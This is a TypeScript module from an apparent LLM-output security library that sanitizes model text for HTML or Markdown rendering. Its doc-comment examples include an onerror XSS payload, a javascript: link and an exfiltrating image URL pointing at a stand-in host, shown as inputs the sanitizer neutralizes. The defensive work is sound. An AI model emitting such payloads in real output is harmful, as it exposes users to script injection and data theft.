/**
 * `sanitizeForSink` and the `sinkSanitizer` rule: make LLM text safe for the place it is rendered
 * (OWASP LLM05, improper output handling). `html` rebuilds the markup from an allow list; `markdown`
 * escapes raw HTML and refuses dangerous links and exfiltrating images. Both are single linear scans.
 */
import { aobject, aoneOf, astring, describeValue, type Finding, type Rule, ValidationError } from '@modelsec/core';
import { DEFAULT_HTML_TAGS, type HtmlSinkOptions, type SinkStats, sanitizeHtml } from './html';
import { type MarkdownSinkOptions, sanitizeMarkdown } from './markdown';

export { DEFAULT_HTML_TAGS, type HtmlSinkOptions, type MarkdownSinkOptions, type SinkStats };

/** Where the text is rendered. */
export type Sink = 'html' | 'markdown';

/** Options of `sanitizeForSink` (the HTML options apply to `html`, the Markdown ones to `markdown`). */
export interface SinkOptions extends HtmlSinkOptions, MarkdownSinkOptions {
  /** Hosts images may load from (default none: images are replaced by their alt text). */
  imageHosts?: readonly string[];
  /** Link schemes kept (default `http`, `https`, `mailto`; relative links are kept). */
  linkSchemes?: readonly string[];
}

/** What `sanitizeForSinkDetailed` returns. */
export interface SinkResult {
  /** The sanitized text. */
  text: string;
  /** What was removed or neutralized, by kind. */
  stats: SinkStats;
  /** True when `text` differs from the input. */
  changed: boolean;
}

function checkOptions(sink: unknown, options: SinkOptions): void {
  aoneOf(sink as Sink, 'sink', ['html', 'markdown'] as const);
  aobject(options as unknown, 'options');
  for (const key of ['allowedTags', 'linkSchemes', 'imageHosts'] as const) {
    const list = options[key];
    if (list === undefined) continue;
    if (!Array.isArray(list)) aobject(list as unknown, `options.${key}`);
    list.forEach((v, i) => {
      astring(v, `options.${key}[${i}]`);
    });
  }
}

/**
 * Sanitize `text` for a sink and report what was removed.
 *
 * @throws TypeError / RangeError for a non-string text, unknown sink or malformed options.
 * @example
 * ```ts
 * const { text, stats } = sanitizeForSinkDetailed('<img src=x onerror=alert(1)>hi', 'html');
 * // text === 'hi' (no image host allowed), stats.tags === 1
 * ```
 */
export function sanitizeForSinkDetailed(text: string, sink: Sink, options: SinkOptions = {}): SinkResult {
  astring(text, 'text');
  checkOptions(sink, options);
  const r = sink === 'html' ? sanitizeHtml(text, options) : sanitizeMarkdown(text, options);
  return { text: r.text, stats: r.stats, changed: r.text !== text };
}

/**
 * Make model text safe to render as HTML or Markdown: no script, event handler, `style`,
 * `javascript:`/`data:` link, or image from a host not in `imageHosts`.
 *
 * @throws TypeError / RangeError for a non-string text, unknown sink or malformed options.
 * @example
 * ```ts
 * sanitizeForSink('[click](javascript:alert(1)) ![x](https://evil.example/?q=secret)', 'markdown');
 * // '[click]() x'
 * el.innerHTML = sanitizeForSink(answerHtml, 'html');
 * ```
 */
export function sanitizeForSink(text: string, sink: Sink, options: SinkOptions = {}): string {
  return sanitizeForSinkDetailed(text, sink, options).text;
}

/**
 * A rule that sanitizes text for a sink (action `modify`; one finding per kind removed, content-free).
 *
 * @example
 * ```ts
 * const { output } = await filterOutput(answer, [secretRedaction(), sinkSanitizer('markdown')]);
 * ```
 */
export function sinkSanitizer(sink: Sink, options: SinkOptions = {}): Rule<string> {
  checkOptions(sink, options);
  const name = 'sinkSanitizer';
  return {
    specificationVersion: 'v1',
    name,
    check(value) {
      if (typeof value !== 'string') {
        throw new ValidationError('invalid_format', `rule "${name}" expected a string, got ${describeValue(value)}`);
      }
      const r = sanitizeForSinkDetailed(value, sink, options);
      if (!r.changed) return undefined;
      const findings: Finding[] = [];
      for (const [kind, count] of Object.entries(r.stats)) {
        if (count === 0) continue;
        findings.push({
          rule: name,
          severity: kind === 'images' || kind === 'links' || kind === 'elements' ? 'high' : 'medium',
          message: `${count} unsafe ${kind} neutralized for ${sink}`,
          code: 'unsafe_output',
          action: 'modify',
          details: { sink, kind, count },
        });
      }
      if (findings.length === 0) {
        findings.push({
          rule: name,
          severity: 'info',
          message: `text escaped for ${sink}`,
          code: 'unsafe_output',
          action: 'modify',
          details: { sink },
        });
      }
      return { findings, value: r.text };
    },
  };
}
